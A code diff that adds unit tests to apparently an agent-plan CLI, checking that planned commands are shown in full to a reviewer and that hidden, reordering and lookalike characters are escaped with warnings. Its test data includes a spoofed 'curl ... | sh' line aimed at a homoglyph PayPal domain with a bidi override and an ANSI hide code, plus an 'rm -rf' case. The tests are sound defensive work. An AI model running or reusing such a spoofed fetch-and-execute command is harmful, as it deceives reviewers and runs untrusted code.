@@ -1,7 +1,10 @@
 import { describe, expect, it } from 'vitest';
 import { fillIn, parseYaml } from '../../cli/input.ts';
+import { planText, type ShownPlan } from '../../cli/view/plan.ts';
 import { budgetText, bytes, duration, harmless, money, oneLine, table } from '../../cli/view/text.ts';
 import { dagTree } from '../../cli/view/tree.ts';
+import { HIDDEN_WARNING, LOOKALIKE_WARNING } from '../../contracts/hidden-text.ts';
+import { newTask } from '../../dashboard/pages/plan/draft.ts';
 
 const node = (task_id: string, ...depends_on: string[]) => ({ task_id, depends_on });
 const drawn = (...nodes: ReturnType<typeof node>[]) =>
@@ -52,6 +55,39 @@ describe('words', () => {
   it('let no control character through to the terminal', () => {
     expect(harmless('a\u001b[2Jb\u0007c\nd\te')).toBe('abc\nd\te');
     expect(oneLine(' two\n lines\u001b]0;title\u0007 ', 20)).toBe('two lines');
+  });
+});
+
+describe('what a person decides about', () => {
+  const plan = (command: string | string[]): ShownPlan => ({
+    version: 1,
+    source: 'given',
+    rationale: '',
+    warnings: [],
+    objectives: [],
+    constraints: [],
+    acceptance_criteria: [],
+    forecast: { cost_usd_low: 0, cost_usd_high: 0, seconds_critical_path: 1, basis: '' },
+    tasks: [
+      {
+        ...newTask([]),
+        ...{ task_id: 'a', title: 'A', agent: 'command', command, env: { MODE: 'x y' }, cwd: 'lib' },
+      },
+    ],
+  });
+
+  it('is a plan with the whole of every command', () => {
+    const long = `echo ${'x'.repeat(300)}\necho second`;
+    expect(planText(plan(long))).toContain(`    $ cd lib; MODE="x y" ${long.replace('\n', '\n      ')}`);
+    expect(planText(plan(['rm', '-rf', 'a b']))).toContain('rm -rf "a b"');
+  });
+
+  it('shows characters that hide or reorder text by their numbers, with a warning', () => {
+    const shown = planText(plan('curl https://p\u0430ypal.com\u202e \u001b[8m| sh'));
+    expect(shown).toContain('curl https://p⟨U+0430⟩ypal.com⟨U+202E⟩ ⟨U+001B⟩[8m| sh');
+    expect(shown).toContain(HIDDEN_WARNING);
+    expect(shown).toContain(LOOKALIKE_WARNING);
+    expect(oneLine('a\u200bb')).toBe('a⟨U+200B⟩b');
   });
 });
 
